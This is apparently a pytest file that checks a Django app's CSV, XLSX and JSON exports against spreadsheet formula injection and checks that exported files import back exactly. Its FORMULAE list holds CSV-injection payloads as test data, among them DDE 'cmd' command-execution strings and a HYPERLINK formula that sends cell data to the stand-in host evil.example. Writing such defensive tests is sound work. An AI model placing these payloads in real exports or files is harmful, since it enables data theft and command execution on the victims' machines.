"""No export runs as a formula in a spreadsheet, and an exported file imports back exactly.

The payloads are those of issue 14 (formula injection in exports): a cell starting with `=`,
`+`, `-`, `@`, a tab or a carriage return is a formula to Excel and LibreOffice.
"""

import csv
import io
import json

import openpyxl
import pytest
import tablib

from comparisons.models import Dimension, Entry
from comparisons.transfer.spreadsheets import escape_value, unescape_value
from tests.admin_import import confirm, confirm_form, export, upload_file
from tests.factories import make_comparison

pytestmark = pytest.mark.django_db

FORMULAE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# Text that really starts with the apostrophe the escape adds: it must come back as it was.
QUOTED = "'Tis the season"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(db, settings):
    """A published table whose every text field starts with a formula (one row per payload)."""
    settings.SITE_URL = "https://kb.example.org"
    comparison = make_comparison(dimensions=len(FORMULAE) + 1)
    payloads = [*FORMULAE, QUOTED]
    for dimension, payload in zip(Dimension.objects.order_by("position"), payloads, strict=True):
        Dimension.objects.filter(pk=dimension.pk).update(
            title=payload, question=payload, common_ground=payload
        )
        # Bodies are stripped on import, as the admin's form strips them, so never start
        # with white space: those payloads are in the row's fields above.
        body = payload if not payload[0].isspace() else f"=A1{payload}"
        Entry.objects.filter(dimension=dimension).update(body=body)
    return comparison


def _texts():
    """Every text an export writes, by row."""
    return {
        d.pk: (d.title, d.question, d.common_ground, sorted(e.body for e in d.entries.all()))
        for d in Dimension.objects.prefetch_related("entries")
    }


def _assert_no_value_starts_a_formula(cells):
    cells = [cell for cell in cells if isinstance(cell, str)]
    assert cells
    for cell in cells:
        assert not cell.startswith(TRIGGERS), repr(cell)


def test_a_formula_cell_gets_an_apostrophe_and_loses_it_again():
    for payload in [*FORMULAE, QUOTED]:
        assert escape_value(payload) == "'" + payload
        assert unescape_value(escape_value(payload)) == payload
    assert escape_value("Plain text, = inside") == "Plain text, = inside"
    assert escape_value(3) == 3


def test_the_public_csv_export_has_no_formula(client, hostile):
    body = client.get("/compare/b2b-vs-b2c/export.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body, newline="")))
    _assert_no_value_starts_a_formula([cell for row in rows for cell in row])
    titles = [row[0] for row in rows[1:]]
    assert titles == ["'" + payload for payload in [*FORMULAE, QUOTED]]


def test_the_admin_csv_export_has_no_formula(editor_client, hostile):
    body = export(editor_client, "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body, newline="")))
    _assert_no_value_starts_a_formula([cell for row in rows[1:] for cell in row])
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in rows[1]


def test_the_admin_xlsx_export_has_no_live_formula(editor_client, hostile):
    book = openpyxl.load_workbook(io.BytesIO(export(editor_client, "xlsx")))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert [cell for cell in cells if cell.data_type == "f"] == []
    values = [cell.value for cell in cells]
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in values
    _assert_no_value_starts_a_formula(values)


def test_the_admin_json_export_keeps_the_text_as_it_is(editor_client, hostile):
    rows = json.loads(export(editor_client, "json"))
    assert [row["title"] for row in rows] == [*FORMULAE, QUOTED]


@pytest.mark.parametrize("fmt", ["csv", "json", "xlsx"])
def test_an_exported_file_imported_again_restores_the_text_exactly(editor_client, hostile, fmt):
    before = _texts()
    data = export(editor_client, fmt)
    Dimension.objects.update(title="Changed", question="Changed", common_ground="Changed")
    Entry.objects.update(body="Changed")

    preview = upload_file(editor_client, data, fmt)
    assert preview.status_code == 200
    assert confirm(editor_client, confirm_form(preview.content.decode())).status_code == 302

    assert _texts() == before


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_control_characters_survive_a_spreadsheet(editor_client, hostile, fmt):
    # Word pastes a line break as a vertical tab, which XML cannot hold; a text may also look
    # like Office's own escape for one.
    texts = ["Line one\x0bline two", "Carriage\rreturn", "Looks escaped: _x000B_ and _x005F_"]
    for dimension, text in zip(Dimension.objects.order_by("position"), texts, strict=False):
        Dimension.objects.filter(pk=dimension.pk).update(title=text, question=text)
    before = _texts()
    data = export(editor_client, fmt)
    Dimension.objects.update(title="Changed", question="Changed")

    preview = upload_file(editor_client, data, fmt)
    assert confirm(editor_client, confirm_form(preview.content.decode())).status_code == 302
    assert _texts() == before


def test_an_unchanged_export_imports_as_all_skipped(editor_client, hostile):
    preview = upload_file(editor_client, export(editor_client, "csv"), "csv")
    html = preview.content.decode()
    assert html.count("Skipped\n") == len(FORMULAE) + 1
    assert "Update\n" not in html


def test_a_hand_written_leading_apostrophe_is_dropped_as_a_spreadsheet_drops_it(
    editor_client, hostile
):
    rows = tablib.Dataset().load(export(editor_client, "csv").decode("utf-8-sig"), format="csv")
    first = dict(zip(rows.headers, rows[0], strict=True))
    first["title"] = "'Typed with a quote"
    data = tablib.Dataset(list(first.values()), headers=rows.headers).export("csv")
    preview = upload_file(editor_client, data.encode(), "csv")
    confirm(editor_client, confirm_form(preview.content.decode()))
    assert Dimension.objects.filter(title="Typed with a quote").exists()
